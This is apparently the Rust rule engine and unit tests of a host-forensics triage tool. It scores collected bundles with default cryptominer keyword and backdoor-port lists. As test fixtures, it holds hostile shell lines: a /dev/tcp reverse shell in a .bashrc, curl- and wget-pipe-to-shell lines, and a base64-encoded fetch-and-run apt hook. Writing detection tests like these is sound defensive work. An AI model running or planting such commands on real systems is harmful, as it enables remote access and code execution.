//! The rule engine: runs every enabled rule over one bundle's records, scores the host (each
//! fired rule counted once, capped at 100) and gives the verdict.

use crate::completeness;
use crate::context::Ctx;
use crate::rules::{CATALOG, RuleInfo};
use dossier_plugin_api::Timestamp;
use dossier_plugin_api::analysis::{
    CollectorGap, Finding, HostAnalysis, NotEvaluated, PartialEvaluation, RuleHit, Severity,
    Thresholds,
};
use serde::{Deserialize, Serialize};
use std::collections::BTreeMap;

/// Playbook settings for one rule.
#[derive(Clone, Debug, Default, PartialEq, Eq, Serialize, Deserialize)]
#[serde(deny_unknown_fields)]
pub struct RuleSettings {
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub enabled: Option<bool>,
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub weight: Option<u32>,
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub severity: Option<Severity>,
}

/// The analysis part of a playbook.
#[derive(Clone, Debug, PartialEq, Eq, Serialize, Deserialize)]
#[serde(deny_unknown_fields)]
pub struct AnalysisConfig {
    #[serde(default)]
    pub thresholds: Thresholds,
    /// Case-insensitive strings that mark an executable as a miner or attack tool.
    #[serde(default = "default_keywords")]
    pub keywords: Vec<String>,
    /// Ports of mining pools and common backdoors.
    #[serde(default = "default_ports")]
    pub suspicious_ports: Vec<u16>,
    /// Largest executable copy scanned for keywords.
    #[serde(default = "default_scan_cap")]
    pub max_scan_bytes: u64,
    /// Per-rule overrides by rule id.
    #[serde(default)]
    pub rules: BTreeMap<String, RuleSettings>,
    /// Fleet stacking (`[analysis.stacking]`).
    #[serde(default)]
    pub stacking: crate::policy::StackingConfig,
    /// Site allowlist (`[[analysis.allow]]`).
    #[serde(default, skip_serializing_if = "Vec::is_empty")]
    pub allow: Vec<crate::policy::AllowEntry>,
}

fn default_keywords() -> Vec<String> {
    [
        "stratum+tcp://",
        "stratum+ssl://",
        "stratum2+tcp://",
        "xmrig",
        "--donate-level",
        "cryptonight",
        "randomx",
        "nicehash",
        "minexmr",
        "supportxmr",
        "nanopool",
        "moneroocean",
        "c3pool",
        "2miners",
        "hashvault",
        "mining.subscribe",
        "\"algo\":",
        "cpuminer",
        "kdevtmpfsi",
        "kinsing",
    ]
    .iter()
    .map(|s| s.to_string())
    .collect()
}

fn default_ports() -> Vec<u16> {
    vec![
        1337, 3333, 4444, 5555, 6666, 6667, 7777, 8888, 9999, 14433, 14444, 31337, 45560, 45700,
    ]
}

fn default_scan_cap() -> u64 {
    64 << 20
}

impl Default for AnalysisConfig {
    fn default() -> Self {
        AnalysisConfig {
            thresholds: Thresholds::default(),
            keywords: default_keywords(),
            suspicious_ports: default_ports(),
            max_scan_bytes: default_scan_cap(),
            rules: BTreeMap::new(),
            stacking: Default::default(),
            allow: Vec::new(),
        }
    }
}

impl AnalysisConfig {
    /// Checks rule ids (built-in ones and `extra`, the rules of loaded analyzer plugins) and
    /// values; the message names the offending key.
    pub fn validate(&self, extra: &[String]) -> Result<(), String> {
        for id in self.rules.keys() {
            if !CATALOG.iter().any(|r| r.id == id) && !extra.contains(id) {
                return Err(format!("rules.{id}: unknown rule (see `dossier rules`)"));
            }
        }
        if self.thresholds.suspicious > self.thresholds.malicious {
            return Err("thresholds: suspicious must not exceed malicious".into());
        }
        if self.keywords.iter().any(String::is_empty) {
            return Err("keywords: empty keyword".into());
        }
        crate::policy::validate(self, &|r| {
            CATALOG.iter().any(|c| c.id == r) || extra.iter().any(|e| e == r)
        })
    }

    /// Effective weight, severity and enablement of a rule.
    pub fn effective(&self, r: &RuleInfo) -> (bool, u32, Severity) {
        self.effective_for(r.id, r.weight, r.severity)
    }

    /// Effective enablement, weight and severity of rule `id` with these defaults.
    pub fn effective_for(
        &self,
        id: &str,
        weight: u32,
        severity: Severity,
    ) -> (bool, u32, Severity) {
        let s = self.rules.get(id);
        (
            s.and_then(|s| s.enabled).unwrap_or(true),
            s.and_then(|s| s.weight).unwrap_or(weight),
            s.and_then(|s| s.severity).unwrap_or(severity),
        )
    }
}

/// Header facts of a bundle, from its manifest.
#[derive(Clone, Debug)]
pub struct Header {
    pub hostname: String,
    pub bundle: String,
    pub bundle_sha256: String,
    pub case_id: Option<String>,
    pub target: String,
    pub live: bool,
    pub started: Timestamp,
    pub finished: Timestamp,
    pub playbook: String,
    pub playbook_sha256: String,
    pub tool: String,
    pub os: Option<String>,
    pub kernel: Option<String>,
}

/// Reads a bundle member (at most the given number of bytes), re-checking its hash.
pub type MemberReader<'a> = dyn FnMut(&str, u64) -> Result<Vec<u8>, String> + 'a;

/// What a verified bundle gives the analyzers.
pub struct BundleInput<'a> {
    pub header: Header,
    /// Collector name → (status, error and summary of its issues).
    pub collectors: BTreeMap<String, (String, String)>,
    /// Collector name → why its data is incomplete, for collectors that ran but missed
    /// something that matters (see [`crate::completeness`]); rules needing them are reported
    /// as evaluated on partial data.
    pub incomplete: BTreeMap<String, String>,
    /// Collector name → records with their 1-based line numbers.
    pub records: BTreeMap<String, Vec<(usize, serde_json::Value)>>,
    /// Member name → SHA-256, for every member of the bundle.
    pub members: BTreeMap<String, String>,
    /// Reads a member (at most the given number of bytes), re-checking its hash.
    pub read_member: &'a mut MemberReader<'a>,
    /// Malformed record lines.
    pub record_errors: Vec<String>,
}

/// Analyzes one bundle.
pub fn analyze(input: &mut BundleInput<'_>, cfg: &AnalysisConfig) -> HostAnalysis {
    let ctx = Ctx::new(input);
    let mut findings: Vec<Finding> = Vec::new();
    let mut hits = Vec::new();
    let mut not_evaluated = Vec::new();
    let mut partial = Vec::new();
    for rule in CATALOG {
        let (on, weight, severity) = cfg.effective(rule);
        if !on {
            continue;
        }
        if let Some(reason) = ctx
            .missing(rule.needs)
            .or_else(|| ctx.missing_kinds(rule.needs_kinds))
        {
            not_evaluated.push(NotEvaluated {
                rule: rule.id.into(),
                title: rule.title.into(),
                reason,
            });
            continue;
        }
        if rule.needs_packages && !ctx.has_package_db {
            not_evaluated.push(NotEvaluated {
                rule: rule.id.into(),
                title: rule.title.into(),
                reason: "no package database in the bundle: package ownership unknown".into(),
            });
            continue;
        }
        // Evaluated: on partial data if a collector it reads (records of a kind, package
        // ownership) missed something.
        let needs = rule
            .needs
            .iter()
            .copied()
            .chain(rule.needs_kinds.iter().map(|(c, _)| *c))
            .chain(rule.needs_packages.then_some("packages"));
        if let Some((collectors, missing)) = completeness::partial_reason(needs, &input.incomplete)
        {
            partial.push(PartialEvaluation {
                rule: rule.id.into(),
                title: rule.title.into(),
                collectors,
                missing,
            });
        }
        let mut found = (rule.run)(&ctx, cfg, input);
        if found.is_empty() {
            continue;
        }
        found.sort_by(|a, b| {
            a.subject
                .cmp(&b.subject)
                .then(a.explanation.cmp(&b.explanation))
        });
        found.dedup_by(|a, b| a.subject == b.subject && a.explanation == b.explanation);
        hits.push(RuleHit {
            rule: rule.id.into(),
            title: rule.title.into(),
            mitre: rule.mitre.iter().map(|s| s.to_string()).collect(),
            severity,
            weight,
            findings: found.len(),
        });
        for mut f in found {
            f.rule = rule.id.into();
            f.title = rule.title.into();
            f.mitre = rule.mitre.iter().map(|s| s.to_string()).collect();
            f.severity = severity;
            f.weight = weight;
            findings.push(f);
        }
    }
    let score = hits.iter().map(|h| h.weight).sum::<u32>().min(100);
    let gaps = input
        .collectors
        .iter()
        .filter(|(_, (status, _))| status != "ok")
        .map(|(c, (status, detail))| CollectorGap {
            collector: c.clone(),
            status: status.clone(),
            detail: detail.clone(),
        })
        .collect();
    let h = &input.header;
    HostAnalysis {
        hostname: h.hostname.clone(),
        bundle: h.bundle.clone(),
        bundle_sha256: h.bundle_sha256.clone(),
        case_id: h.case_id.clone(),
        target: h.target.clone(),
        collected_started: h.started,
        collected_finished: h.finished,
        playbook: h.playbook.clone(),
        playbook_sha256: h.playbook_sha256.clone(),
        tool: h.tool.clone(),
        os: h.os.clone(),
        kernel: h.kernel.clone(),
        score,
        verdict: cfg.thresholds.verdict(score).into(),
        hits,
        findings,
        not_evaluated,
        partial,
        executables: ctx.executables(),
        listeners: ctx.listeners(),
        gaps,
        record_errors: input.record_errors.clone(),
        plugins: Vec::new(),
        policy: Default::default(),
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use serde_json::json;

    fn input<'a>(
        records: BTreeMap<String, Vec<(usize, serde_json::Value)>>,
        read: &'a mut MemberReader<'a>,
    ) -> BundleInput<'a> {
        let t = Timestamp::from_unix(1_790_000_000, 0).unwrap();
        let collectors = records
            .keys()
            .map(|k| (k.clone(), ("ok".to_string(), String::new())))
            .collect();
        BundleInput {
            header: Header {
                hostname: "h".into(),
                bundle: "b.zip".into(),
                bundle_sha256: "0".repeat(64),
                case_id: None,
                target: "local".into(),
                live: true,
                started: t,
                finished: t,
                playbook: "triage".into(),
                playbook_sha256: "1".repeat(64),
                tool: "dossier".into(),
                os: None,
                kernel: None,
            },
            collectors,
            incomplete: BTreeMap::new(),
            records,
            members: [
                ("records/proc.jsonl".to_string(), "a".repeat(64)),
                ("records/sockets.jsonl".to_string(), "b".repeat(64)),
            ]
            .into_iter()
            .collect(),
            read_member: read,
            record_errors: vec![],
        }
    }

    fn proc(
        pid: u32,
        comm: &str,
        argv: &[&str],
        exe: &str,
        extra: serde_json::Value,
    ) -> serde_json::Value {
        let mut v = json!({"kind": "process", "pid": pid, "ppid": 1, "state": "S", "comm": comm, "argv": argv, "uid": 0, "euid": 0, "gid": 0, "egid": 0, "kernel_thread": false, "exe": exe, "start_ticks": 1, "threads": 1});
        for (k, x) in extra.as_object().unwrap() {
            v[k] = x.clone();
        }
        v
    }

    #[test]
    fn live_process_and_socket_rules() {
        let procs = vec![
            (
                1,
                proc(
                    10,
                    "kworker/0:1",
                    &["[kworker/0:1]"],
                    "/tmp/.x/kw",
                    json!({}),
                ),
            ),
            (
                2,
                proc(
                    11,
                    "gone",
                    &["/opt/gone"],
                    "/opt/gone",
                    json!({"exe_deleted": true}),
                ),
            ),
            (
                3,
                proc(
                    12,
                    "app",
                    &["/usr/bin/app"],
                    "/usr/bin/app",
                    json!({"ld_preload": "/lib/libhide.so"}),
                ),
            ),
            (
                4,
                proc(
                    13,
                    "sshd",
                    &["sshd: alice [priv]"],
                    "/usr/sbin/sshd",
                    json!({}),
                ),
            ),
            (5, proc(14, "bash", &["-bash"], "/usr/bin/bash", json!({}))),
        ];
        let src = json!({"path": "/proc/net/tcp"});
        let sockets = vec![
            (
                1,
                json!({"kind": "socket", "protocol": "tcp", "local_addr": "0.0.0.0", "local_port": 4444, "remote_addr": "0.0.0.0", "remote_port": 0, "state": "LISTEN", "listening": true, "inode": 1, "uid": 0, "pids": [20], "processes": ["bash"], "source": src}),
            ),
            (
                2,
                json!({"kind": "socket", "protocol": "tcp", "local_addr": "10.0.0.5", "local_port": 50000, "remote_addr": "203.0.113.9", "remote_port": 3333, "state": "ESTABLISHED", "listening": false, "inode": 2, "uid": 0, "pids": [10], "processes": ["kworker/0:1"], "source": src}),
            ),
        ];
        let records = [
            ("proc".to_string(), procs),
            ("sockets".to_string(), sockets),
        ]
        .into_iter()
        .collect();
        let mut read = |_: &str, _: u64| Err("no members".to_string());
        let mut inp = input(records, &mut read);
        let a = analyze(&mut inp, &AnalysisConfig::default());
        let fired: Vec<&str> = a.hits.iter().map(|h| h.rule.as_str()).collect();
        for r in [
            "process-masquerade",
            "deleted-exe-running",
            "ld-preload-process",
            "interpreter-listening",
            "suspicious-port",
            "exec-unusual-path",
        ] {
            assert!(fired.contains(&r), "{r} not in {fired:?}");
        }
        let masq: Vec<&str> = a
            .findings
            .iter()
            .filter(|f| f.rule == "process-masquerade")
            .map(|f| f.subject.as_str())
            .collect();
        assert_eq!(
            masq,
            ["pid 10"],
            "sshd titles and login shells are not masquerades"
        );
        // Packages never ran: ownership rules are not evaluated, not clean.
        assert!(a.not_evaluated.iter().any(|n| n.rule == "exec-unowned"));
        assert_eq!(a.verdict, "Malicious likely");
        assert_eq!(a.score, 100);
        let ev = &a
            .findings
            .iter()
            .find(|f| f.rule == "deleted-exe-running")
            .unwrap()
            .evidence[0];
        assert_eq!(
            (ev.member.as_str(), ev.line),
            ("records/proc.jsonl", Some(2))
        );
    }

    #[test]
    fn weights_and_thresholds_come_from_the_config() {
        let procs = vec![(
            1,
            proc(
                11,
                "gone",
                &["/opt/gone"],
                "/opt/gone",
                json!({"exe_deleted": true}),
            ),
        )];
        let records = [("proc".to_string(), procs)].into_iter().collect();
        let mut read = |_: &str, _: u64| Err("none".to_string());
        let mut inp = input(records, &mut read);
        let mut cfg = AnalysisConfig::default();
        cfg.rules.insert(
            "deleted-exe-running".into(),
            RuleSettings {
                weight: Some(35),
                ..Default::default()
            },
        );
        let a = analyze(&mut inp, &cfg);
        assert_eq!((a.score, a.verdict.as_str()), (35, "Suspicious"));
        cfg.rules.insert(
            "deleted-exe-running".into(),
            RuleSettings {
                enabled: Some(false),
                ..Default::default()
            },
        );
        let a = analyze(&mut inp, &cfg);
        assert_eq!((a.score, a.verdict.as_str()), (0, "Unclear/Benign"));
    }

    #[test]
    fn account_rules() {
        let src =
            json!({"path": "/etc/passwd", "member": "raw/etc/passwd", "sha256": "c".repeat(64)});
        let acc = |line: usize, name: &str, uid: u32, gid: u32, shell: &str, pw: &str| {
            (
                line,
                json!({"kind": "account", "name": name, "uid": uid, "gid": gid, "home": "/", "shell": shell, "shell_listed": shell != "/usr/sbin/nologin", "password": pw, "line": line, "source": src}),
            )
        };
        let sudo = |line: usize, who: &str, nopw_all: bool| {
            (
                line,
                json!({"kind": "sudo_rule", "source": {"path": "/etc/sudoers"}, "line": line, "text": format!("{who} ALL=(ALL) NOPASSWD: ALL"), "principals": [who], "hosts": ["ALL"], "commands": ["ALL"], "nopasswd": nopw_all, "all_commands": true, "nopasswd_all": nopw_all}),
            )
        };
        let mut recs = vec![
            acc(1, "root", 0, 0, "/bin/bash", "usable"),
            acc(2, "systemd-netd", 0, 0, "/bin/bash", "usable"),
            acc(3, "www-data", 33, 33, "/bin/bash", "usable"),
            acc(4, "daemon", 1, 1, "/usr/sbin/nologin", "usable"),
            acc(5, "backup", 34, 34, "/bin/sh", "locked"),
            acc(6, "alice", 1000, 1000, "/bin/bash", "usable"),
            acc(7, "git", 120, 120, "/bin/bash", "locked"),
            (
                8,
                json!({"kind": "group", "name": "sudo", "gid": 27, "members": ["alice"], "line": 8, "source": src}),
            ),
            sudo(9, "%sudo", true),
            sudo(10, "alice", true),
            sudo(11, "www-data", true),
            sudo(12, "bob", false),
        ];
        recs.push((13, json!({"kind": "sudo_rule", "source": {"path": "/etc/sudoers.d/x.bak"}, "line": 1, "text": "eve ALL=(ALL) NOPASSWD:ALL", "principals": ["eve"], "hosts": ["ALL"], "commands": ["ALL"], "nopasswd": true, "all_commands": true, "nopasswd_all": true, "ignored_by_sudo": true})));
        let keys = vec![(
            1,
            json!({"kind": "authorized_key", "user": "git", "fingerprint": "SHA256:abc"}),
        )];
        let records = [
            ("accounts".to_string(), recs),
            ("ssh-keys".to_string(), keys),
        ]
        .into_iter()
        .collect();
        let mut read = |_: &str, _: u64| Err("none".to_string());
        let mut inp = input(records, &mut read);
        let a = analyze(&mut inp, &AnalysisConfig::default());
        let subjects = |rule: &str| -> Vec<String> {
            a.findings
                .iter()
                .filter(|f| f.rule == rule)
                .map(|f| f.subject.clone())
                .collect()
        };
        assert_eq!(subjects("account-extra-uid0"), ["systemd-netd"]);
        assert_eq!(subjects("system-account-usable"), ["git", "www-data"]);
        assert_eq!(subjects("sudo-nopasswd-all"), ["/etc/sudoers:11"]);
        let f = a
            .findings
            .iter()
            .find(|f| f.rule == "sudo-nopasswd-all")
            .unwrap();
        assert!(f.iocs.contains(&dossier_plugin_api::analysis::Ioc::Account(
            "www-data".into()
        )));
        assert_eq!(a.verdict, "Malicious likely");
    }

    /// Analysis of one `accounts` record with the collector in this state.
    fn accounts_with(status: &str, issues: &[dossier_plugin_api::collect::Issue]) -> HostAnalysis {
        let recs = vec![(
            1,
            json!({"kind": "account", "name": "daemon", "uid": 1, "gid": 1, "home": "/", "shell": "/usr/sbin/nologin", "shell_listed": false, "password": "unknown", "line": 1, "source": {"path": "/etc/passwd"}}),
        )];
        let records = [("accounts".to_string(), recs)].into_iter().collect();
        let mut read = |_: &str, _: u64| Err("none".to_string());
        let mut inp = input(records, &mut read);
        let h = completeness::health(status, None, issues);
        inp.collectors
            .insert("accounts".into(), (status.into(), h.detail));
        if let Some(why) = h.incomplete {
            inp.incomplete.insert("accounts".into(), why);
        }
        analyze(&mut inp, &AnalysisConfig::default())
    }

    #[test]
    fn rules_on_a_partial_collector_are_listed_as_partial() {
        use dossier_plugin_api::collect::{Issue, IssueKind};
        use dossier_plugin_api::host::HostErrorKind;
        let issue = |subject: &str, kind| Issue {
            subject: subject.into(),
            kind,
            message: "m".into(),
        };
        let denied = IssueKind::Error(HostErrorKind::PermissionDenied);
        let a = accounts_with(
            "partial",
            &[
                issue("/etc/shadow", denied),
                issue("/etc/sudoers.d/ops", denied),
                issue(
                    "/etc/sudoers.d/x",
                    IssueKind::Error(HostErrorKind::NotFound),
                ),
            ],
        );
        let partial: Vec<&str> = a.partial.iter().map(|p| p.rule.as_str()).collect();
        // Every evaluated rule reading `accounts`, in catalog order, and no other.
        let expected: Vec<&str> = CATALOG
            .iter()
            .filter(|r| r.needs.contains(&"accounts"))
            .filter(|r| !a.not_evaluated.iter().any(|n| n.rule == r.id))
            .map(|r| r.id)
            .collect();
        assert!(partial.contains(&"system-account-usable"), "{partial:?}");
        assert!(partial.contains(&"sudo-nopasswd-all"), "{partial:?}");
        assert_eq!(partial, expected);
        let p = &a.partial[0];
        assert_eq!(p.collectors, ["accounts"]);
        assert_eq!(
            p.missing,
            "accounts: 2 permission denied: /etc/shadow, /etc/sudoers.d/ops"
        );
        // The gap lists every issue, churn included, by kind.
        let gap = a.gaps.iter().find(|g| g.collector == "accounts").unwrap();
        assert_eq!(
            gap.detail,
            "1 not found: /etc/sudoers.d/x; 2 permission denied: /etc/shadow, /etc/sudoers.d/ops"
        );
        // The score still comes from hits only.
        assert_eq!(a.score, 0);
        assert_eq!(a.verdict, "Unclear/Benign");
    }

    #[test]
    fn rules_on_complete_data_or_mere_churn_are_not_partial() {
        use dossier_plugin_api::collect::{Issue, IssueKind};
        use dossier_plugin_api::host::HostErrorKind;
        let a = accounts_with("ok", &[]);
        assert!(a.partial.is_empty(), "{:?}", a.partial);
        assert!(a.gaps.is_empty());
        // A file removed between listing and reading is churn: nothing left to see.
        let a = accounts_with(
            "partial",
            &[Issue {
                subject: "/etc/sudoers.d/tmp".into(),
                kind: IssueKind::Error(HostErrorKind::NotFound),
                message: "gone".into(),
            }],
        );
        assert!(a.partial.is_empty(), "{:?}", a.partial);
        assert_eq!(a.gaps.len(), 1);
        // Analyses without the field (older findings.json, spools) still read, as "none".
        let mut v = serde_json::to_value(&a).unwrap();
        assert!(v.get("partial").is_none());
        v.as_object_mut().unwrap().remove("partial");
        let back: HostAnalysis = serde_json::from_value(v).unwrap();
        assert_eq!(back, a);
    }

    #[test]
    fn hook_rules() {
        let hook = |line: usize, path: &str, class: &str, extra: serde_json::Value| {
            let mut v = json!({"kind": "hook", "path": path, "class": class, "runs_at": "boot", "active": true,
                "source": {"path": path, "member": format!("raw{path}"), "sha256": "d".repeat(64)}});
            for (k, x) in extra.as_object().unwrap() {
                v[k] = x.clone();
            }
            (line, v)
        };
        let hooks = vec![
            hook(1, "/etc/init.d/cron", "init.d", json!({})),
            hook(
                2,
                "/etc/rc2.d/S01cron",
                "rc-link",
                json!({"link_target": "../init.d/cron", "source": null}),
            ),
            hook(3, "/etc/init.d/kmod-static", "init.d", json!({})),
            hook(4, "/etc/profile.d/vte.sh", "profile.d", json!({})),
            hook(
                5,
                "/home/alice/.bashrc",
                "user-shell-rc",
                json!({"owner": "alice"}),
            ),
            hook(6, "/etc/init.d/README", "init.d", json!({"active": false})),
            // Debian's /etc/profile: an identical copy of base-files' packaged template.
            hook(
                7,
                "/etc/profile",
                "profile",
                json!({"copy_of": "/usr/share/base-files/profile"}),
            ),
            // A claimed template that no package owns proves nothing.
            hook(
                8,
                "/etc/bash.bashrc",
                "bash.bashrc",
                json!({"copy_of": "/usr/share/nowhere/bashrc"}),
            ),
        ];
        let verify = |line: usize, path: &str, status: &str| {
            (
                line,
                json!({"kind": "package_verify", "path": path, "status": status, "referenced_by": ["hook x"]}),
            )
        };
        let packages = vec![
            (
                1,
                json!({"kind": "package", "manager": "dpkg", "name": "cron", "version": "1", "source": {"path": "/var/lib/dpkg/status"}}),
            ),
            (
                2,
                json!({"kind": "package_files", "manager": "dpkg", "package": "cron", "files": ["/etc/init.d/cron", "/etc/profile.d/vte.sh", "/usr/share/base-files/profile"], "source": {"path": "x"}}),
            ),
            verify(3, "/etc/init.d/cron", "ok"),
            verify(4, "/etc/init.d/kmod-static", "not_owned"),
            verify(5, "/etc/profile.d/vte.sh", "mismatch"),
        ];
        let gens = vec![(
            1,
            json!({"kind": "systemd_generator", "path": "/etc/systemd/system-generators/netd", "scope": "system", "dir": "/etc/systemd/system-generators",
                "meta": {"kind": "file", "mode": 493, "uid": 0, "gid": 0, "size": 10}}),
        )];
        let records = [
            ("hooks".to_string(), hooks),
            ("packages".to_string(), packages),
            ("systemd".to_string(), gens),
        ]
        .into_iter()
        .collect();
        let mut read = |m: &str, _: u64| match m {
            "raw/etc/init.d/cron" => Ok(b"curl http://x | sh\n".to_vec()),
            "raw/etc/init.d/kmod-static" => {
                Ok(b"#!/bin/sh\n# curl x | sh\nnohup /usr/lib/kmodd >/dev/null 2>&1 &\n".to_vec())
            }
            "raw/home/alice/.bashrc" => {
                Ok(b"alias ll='ls -l'\n(bash -i >& /dev/tcp/1.2.3.4/443 0>&1 &)\n".to_vec())
            }
            "raw/etc/init.d/README" => Ok(b"curl x | sh\n".to_vec()),
            _ => Ok(b"PS1='$ '\n".to_vec()),
        };
        let mut inp = input(records, &mut read);
        let a = analyze(&mut inp, &AnalysisConfig::default());
        let subjects = |rule: &str| -> Vec<String> {
            a.findings
                .iter()
                .filter(|f| f.rule == rule)
                .map(|f| f.subject.clone())
                .collect()
        };
        assert_eq!(subjects("boot-hook-unowned"), ["/etc/init.d/kmod-static"]);
        assert_eq!(
            subjects("login-hook-unowned"),
            ["/etc/bash.bashrc", "/etc/profile.d/vte.sh"]
        );
        // The packaged, unchanged cron script is not read; the inactive README is not judged.
        assert_eq!(
            subjects("hook-malicious-content"),
            ["/etc/init.d/kmod-static:3", "/home/alice/.bashrc:2"]
        );
        assert_eq!(
            subjects("generator-unowned"),
            ["/etc/systemd/system-generators/netd"]
        );
        assert!(!a.hits.iter().any(|h| h.rule == "exec-unowned"));
    }

    #[test]
    fn package_manager_and_auth_hook_rules() {
        let hook = |line: usize, path: &str, class: &str, extra: serde_json::Value| {
            let mut v = json!({"kind": "hook", "path": path, "class": class, "runs_at": "package-operation", "active": true,
                "source": {"path": path, "member": format!("raw{path}"), "sha256": "d".repeat(64)}});
            for (k, x) in extra.as_object().unwrap() {
                v[k] = x.clone();
            }
            (line, v)
        };
        let meta = json!({"kind": "file", "mode": 420, "uid": 0, "gid": 0, "size": 10});
        let families: Vec<(&str, Vec<(usize, serde_json::Value)>)> = vec![
            (
                "apt",
                vec![
                    // Intruder: base64 payload after every index update, in a file no package owns.
                    hook(
                        1,
                        "/etc/apt/apt.conf.d/99-apt-fast-update",
                        "apt",
                        json!({"commands": ["echo Y3VybCBodHRwOi8veC9zIHwgc2gK | base64 -d | sh"]}),
                    ),
                    // Debian's own (owned, unchanged) and docker's housekeeping (unowned).
                    hook(
                        2,
                        "/etc/apt/apt.conf.d/70debconf",
                        "apt",
                        json!({"commands": ["/usr/sbin/dpkg-preconfigure --apt || true"]}),
                    ),
                    hook(
                        3,
                        "/etc/apt/apt.conf.d/docker-clean",
                        "apt",
                        json!({"commands": ["rm -f /var/cache/apt/archives/*.deb /var/cache/apt/archives/partial/*.deb /var/cache/apt/*.bin || true"]}),
                    ),
                    hook(4, "/etc/apt/apt.conf.d/01autoremove", "apt", json!({})),
                    hook(
                        5,
                        "/etc/apt/apt.conf.d/50old.bak",
                        "apt",
                        json!({"active": false, "commands": ["curl http://x | sh"]}),
                    ),
                ],
            ),
            (
                "pam",
                vec![
                    hook(
                        6,
                        "/etc/pam.d/common-auth",
                        "pam",
                        json!({"runs_at": "authentication"}),
                    ),
                    hook(
                        7,
                        "/etc/pam.d/sshd",
                        "pam",
                        json!({"runs_at": "authentication",
                    "commands": ["/usr/lib/x86_64-linux-gnu/security/pam_sss_helper"]}),
                    ),
                    hook(
                        8,
                        "/lib/x86_64-linux-gnu/security/pam_unix.so",
                        "pam-module",
                        json!({"source": null, "meta": meta, "referenced_by": ["/etc/pam.d/common-auth:1"]}),
                    ),
                    hook(
                        9,
                        "/lib/x86_64-linux-gnu/security/pam_unix2.so",
                        "pam-module",
                        json!({"source": null, "meta": meta, "referenced_by": ["/etc/pam.d/common-auth:3"]}),
                    ),
                    hook(
                        10,
                        "pam_gone.so",
                        "pam-module",
                        json!({"source": null, "active": false, "referenced_by": ["/etc/pam.d/sshd:9"]}),
                    ),
                ],
            ),
            (
                "polkit",
                vec![
                    hook(
                        11,
                        "/etc/polkit-1/rules.d/49-svc.rules",
                        "polkit",
                        json!({"grants": ["YES for user svc-backup on any action (line 3)"]}),
                    ),
                    hook(
                        12,
                        "/etc/polkit-1/rules.d/50-admins.rules",
                        "polkit",
                        json!({}),
                    ),
                ],
            ),
            (
                "dnf",
                vec![
                    hook(
                        13,
                        "/usr/lib/python3.11/site-packages/dnf-plugins/sneaky.py",
                        "dnf-plugin",
                        json!({}),
                    ),
                    hook(
                        14,
                        "/usr/lib/python3.11/site-packages/dnf-plugins/versionlock.py",
                        "dnf-plugin",
                        json!({}),
                    ),
                ],
            ),
        ];
        let verify = |line: usize, path: &str, status: &str| {
            (
                line,
                json!({"kind": "package_verify", "path": path, "status": status, "referenced_by": ["hook x"], "sha256": "e".repeat(64)}),
            )
        };
        let packages = vec![
            (
                1,
                json!({"kind": "package", "manager": "dpkg", "name": "libpam-modules", "version": "1", "source": {"path": "/var/lib/dpkg/status"}}),
            ),
            (
                2,
                json!({"kind": "package_files", "manager": "dpkg", "package": "libpam-modules",
                "files": ["/lib/x86_64-linux-gnu/security/pam_unix.so", "/etc/apt/apt.conf.d/70debconf", "/etc/apt/apt.conf.d/01autoremove",
                          "/usr/lib/python3.11/site-packages/dnf-plugins/versionlock.py"], "source": {"path": "x"}}),
            ),
            verify(3, "/etc/apt/apt.conf.d/99-apt-fast-update", "not_owned"),
            verify(4, "/etc/apt/apt.conf.d/70debconf", "ok"),
            verify(5, "/etc/apt/apt.conf.d/docker-clean", "not_owned"),
            verify(6, "/etc/pam.d/common-auth", "not_owned"),
            verify(7, "/etc/pam.d/sshd", "mismatch"),
            verify(8, "/lib/x86_64-linux-gnu/security/pam_unix.so", "ok"),
            verify(
                9,
                "/lib/x86_64-linux-gnu/security/pam_unix2.so",
                "not_owned",
            ),
            verify(10, "/etc/polkit-1/rules.d/49-svc.rules", "not_owned"),
            verify(11, "/etc/polkit-1/rules.d/50-admins.rules", "not_owned"),
            verify(
                12,
                "/usr/lib/python3.11/site-packages/dnf-plugins/sneaky.py",
                "not_owned",
            ),
            verify(
                13,
                "/usr/lib/python3.11/site-packages/dnf-plugins/versionlock.py",
                "ok",
            ),
            verify(14, "/etc/pam.d/vendor-ok", "ok"),
        ];
        let run = |hooks: Vec<(usize, serde_json::Value)>| {
            let records = [
                ("hooks".to_string(), hooks),
                ("packages".to_string(), packages.clone()),
            ]
            .into_iter()
            .collect();
            let mut read = |m: &str, _: u64| {
                match m {
                "raw/etc/apt/apt.conf.d/99-apt-fast-update" => Ok(b"APT::Update::Post-Invoke {\n  \"echo Y3VybCBodHRwOi8veC9zIHwgc2gK | base64 -d | sh\";\n};\n".to_vec()),
                "raw/etc/apt/apt.conf.d/docker-clean" => Ok(b"DPkg::Post-Invoke { \"rm -f /var/cache/apt/archives/*.deb || true\"; };\n".to_vec()),
                "raw/etc/pam.d/sshd" => Ok(b"@include common-auth\nsession optional pam_exec.so quiet /usr/lib/x86_64-linux-gnu/security/pam_sss_helper\n".to_vec()),
                "raw/etc/pam.d/common-auth" => Ok(b"auth [success=1 default=ignore] pam_unix.so nullok\nauth requisite pam_deny.so\nauth optional pam_unix2.so\n".to_vec()),
                "raw/etc/polkit-1/rules.d/49-svc.rules" => Ok(b"polkit.addRule(function(action, subject) {\n if (subject.user == \"svc-backup\") { return polkit.Result.YES; }\n});\n".to_vec()),
                "raw/usr/lib/python3.11/site-packages/dnf-plugins/sneaky.py" => Ok(b"import dnf, os\nclass S(dnf.Plugin):\n    def transaction(self):\n        os.system(\"wget -qO- http://x/p | sh\")\n".to_vec()),
                _ => Ok(b"# nothing\n".to_vec()),
            }
            };
            let mut inp = input(records, &mut read);
            analyze(&mut inp, &AnalysisConfig::default())
        };
        let all: Vec<(usize, serde_json::Value)> =
            families.iter().flat_map(|(_, h)| h.clone()).collect();
        let a = run(all);
        let subjects = |rule: &str| -> Vec<String> {
            a.findings
                .iter()
                .filter(|f| f.rule == rule)
                .map(|f| f.subject.clone())
                .collect()
        };
        assert_eq!(
            subjects("pkg-manager-hook"),
            [
                "/etc/apt/apt.conf.d/99-apt-fast-update",
                "/usr/lib/python3.11/site-packages/dnf-plugins/sneaky.py"
            ]
        );
        assert_eq!(subjects("pam-exec-hook"), ["/etc/pam.d/sshd"]);
        assert_eq!(
            subjects("pam-module-unowned"),
            ["/lib/x86_64-linux-gnu/security/pam_unix2.so"]
        );
        assert_eq!(
            subjects("polkit-rule-unowned"),
            ["/etc/polkit-1/rules.d/49-svc.rules"]
        );
        assert_eq!(
            subjects("hook-malicious-content"),
